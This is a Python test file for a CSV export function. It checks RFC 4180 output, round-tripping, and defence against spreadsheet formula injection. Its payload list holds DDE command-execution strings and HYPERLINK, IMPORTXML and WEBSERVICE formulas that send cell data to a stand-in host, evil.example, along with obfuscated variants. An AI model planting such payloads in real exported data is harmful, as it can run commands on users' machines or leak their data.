"""CSV tables can be read back, and a spreadsheet finds no formula in them."""

import csv
import io
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.runtime.http.csv_table import Cell, csv_table

FORMULA_BEGINS = "=+-@|%＝＋－＠"
UNSEEN = " \t\r\n\xa0\x00\x0b\u200b\ufeff\u202e\u3000"

_SPECIAL_TEXTS = st.text(st.sampled_from("=-＋@|;,\t\r\n \"'x\ufeff"), max_size=8)
_ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)


def read_cells(table: bytes, delimiter: str = ",") -> list[list[str]]:
    """Return the cells that a reader with this delimiter reads."""
    return list(csv.reader(io.StringIO(table.decode(), newline=""), delimiter=delimiter))


def write_cell(text: str) -> str:
    """Return the cell of the table for the text."""
    [_, [cell]] = read_cells(csv_table(["flock"], [[text]]))
    return cell


def test_table_conforms_to_rfc_4180() -> None:
    rows: list[list[Cell]] = [["Dolly", 3, 1.5, None], ['the "old" one, 羊', -7, 0.0, "a\r\nb"]]

    table = csv_table(["name", "age", "weight", "remark"], rows)

    assert table == (
        '"name","age","weight","remark"\r\n'
        '"Dolly",3,1.5,""\r\n'
        '"the ""old"" one, 羊",-7,0.0,"a\r\nb"\r\n'
    ).encode()  # fmt: skip


def test_table_without_rows_is_its_header() -> None:
    assert csv_table(["sheep"], []) == b'"sheep"\r\n'


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
        '=WEBSERVICE("http://evil.example/"&A1)',
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "|cmd|' /C calc'!A0",
        "%0A=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tharmless except for the tab",
        "  \nharmless except for the line break",
        "   =1+1",
        "\u3000＝1+1",
        "\xa0=1+1",
        "\ufeff=1+1",
        "\u200b\u202e=1+1",
        "\0=1+1",
        "=",
        "-5",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)  # fmt: skip
def test_text_that_would_be_a_formula_gets_an_apostrophe(payload: str) -> None:
    cell = write_cell(payload)

    assert cell.startswith("'")
    assert cell.replace("'", "") == payload.replace("\0", "").replace("'", "")


@pytest.mark.parametrize(
    "text",
    ["", "Dolly", "a=b", "1-2", "50 %", "me@flock.example", "'=1", "a - b", '"-"', "x,=1", "é", "⭐", "a;b", "  a"],
)
def test_other_text_is_unchanged(text: str) -> None:
    assert write_cell(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x;=1+1;y", "x;'=1+1;y"),
        ("x; =1+1;y", "x; '=1+1;y"),
        ('x;"=1&";y', 'x;"\'=1&";y'),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("x\r\n+1", "x\r\n'+1"),
        ("=1;-1\n=1", "'=1;'-1\n'=1"),
    ],
)
def test_formula_after_a_semicolon_or_tab_gets_an_apostrophe(text: str, expected: str) -> None:
    assert write_cell(text) == expected


@settings(max_examples=500)
@given(st.lists(st.tuples(_SPECIAL_TEXTS, _SPECIAL_TEXTS), min_size=1, max_size=3), st.sampled_from(",;\t"))
def test_table_has_no_formula_with_any_cell_separator(rows: list[tuple[str, str]], delimiter: str) -> None:
    table = csv_table(rows[0], rows[1:])

    for cell in (cell for row in read_cells(table, delimiter) for cell in row):
        assert not cell.lstrip(UNSEEN).startswith(tuple(FORMULA_BEGINS))


@given(st.lists(st.tuples(_ANY_TEXT, st.integers(), st.floats(allow_nan=False, allow_infinity=False) | st.none())))
def test_table_read_back_differs_only_in_apostrophes_and_nul(rows: list[tuple[str, int, float | None]]) -> None:
    table = csv_table(["text", "whole", "broken"], rows)

    found = read_cells(table)[1:]
    assert b"\0" not in table
    assert [cells[0].replace("'", "") for cells in found] == [
        text.replace("\0", "").replace("'", "") for text, _, _ in rows
    ]
    assert [int(cells[1]) for cells in found] == [whole for _, whole, _ in rows]
    assert [float(cells[2]) if cells[2] else None for cells in found] == [broken for _, _, broken in rows]


@pytest.mark.parametrize("part", [" ", "\n", ";", '"', ";=", "\n ", "'"])
def test_time_for_a_long_text_is_linear(part: str) -> None:
    text = part * (1_000_000 // len(part))
    started = time.process_time()

    csv_table(["flock"], [[text]])

    assert time.process_time() - started < 5
